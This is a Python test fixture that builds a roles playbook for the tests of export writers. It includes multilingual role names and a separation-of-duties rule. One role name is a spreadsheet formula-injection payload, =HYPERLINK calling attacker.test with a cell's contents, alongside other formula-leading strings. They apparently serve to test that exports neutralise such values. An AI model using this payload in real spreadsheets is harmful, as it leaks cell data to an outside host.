"""A roles playbook for the roles writers' tests: mini.yaml plus objects that share an Odoo model (lead and
deal), one without an Odoo model (report), a separation-of-duties rule one role breaks, Persian and
Russian names, and role text that looks like a spreadsheet formula."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import yaml

from workbench.domain.resolve import resolve
from workbench.loading.playbooks import load_playbook
from workbench.writers.context import ExportContext

DATA = Path(__file__).parent.parent / "data"
EVIL = '=HYPERLINK("http://attacker.test/?x="&A1,"click")'


def mini_data() -> dict:
    # libyaml, as the loader uses: pure-Python PyYAML stops at mini.yaml's `label: Qualified?}` flow mapping
    loader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
    return yaml.load((DATA / "mini.yaml").read_text(encoding="utf-8"), Loader=loader)


def roles_data() -> dict:
    data = mini_data()
    data["objects"] += [
        {"id": "deal", "name": {"en": "Deal", "fa": "معامله", "ru": "Сделка"}, "owner": "specialist"},
        {"id": "report", "name": "Report | BI", "owner": "consultant", "kind": "analytics"},
    ]
    consultant, specialist = data["roles"]
    consultant["permissions"].update({"lead": {"read": "all", "export": "all"}, "report": {"read": "all"}})
    specialist["name"] = {"en": "Specialist", "fa": "کارشناس", "ru": "Специалист"}
    specialist["permissions"]["lead"].update({"assign": "team"})
    specialist["permissions"]["deal"] = {"read": "all", "update": "team", "delete": "own"}
    data["roles"].append(
        {
            "id": "agent",
            "name": EVIL,
            "summary": "+1 calls the client",
            "access": "@SUM(A1)",
            "duties": ["-2 duties start with a minus"],
            "permissions": {"lead": {"read": "own"}, "report": {"read": "team"}},
        }
    )
    data["governance"]["separation_of_duties"] = [
        {
            "id": "sod-settings-export",
            "description": "Who changes settings must not export leads.",
            "severity": "warning",
            "fix": "let the analyst export",
            "first": {"object": "settings", "action": "update"},
            "second": {"object": "lead", "action": "export", "min_scope": "team"},
        }
    ]
    data["phases"][0]["tasks"][0]["raci"]["agent"] = "I"
    return data


def write_playbook(tmp_path: Path, data: dict, name: str = "roles.yaml") -> Path:
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def context(
    tmp_path: Path, data: dict | None = None, lang: str = "en", answers: dict | None = None
) -> ExportContext:
    loaded = load_playbook(write_playbook(tmp_path, data or roles_data()))
    assert loaded.ok, [str(p) for p in loaded.problems]
    answers = answers if answers is not None else {"modules": ["sales", "service"]}
    return ExportContext(
        resolve(loaded.playbook, answers), loaded.playbook, answers, "Acme", date(2026, 1, 5), lang
    )
